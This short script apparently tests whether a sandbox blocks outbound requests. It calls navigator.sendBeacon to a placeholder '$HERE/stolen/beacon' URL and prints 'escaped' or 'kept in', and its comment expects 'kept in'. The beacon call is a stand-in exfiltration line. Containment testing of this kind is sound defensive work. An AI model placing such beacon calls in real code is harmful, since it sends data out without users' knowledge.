// says: kept in
const send = (navigator as any).sendBeacon;
console.log(send ? (send.call(navigator, '$HERE/stolen/beacon', 'x') ? 'escaped' : 'kept in') : 'kept in');
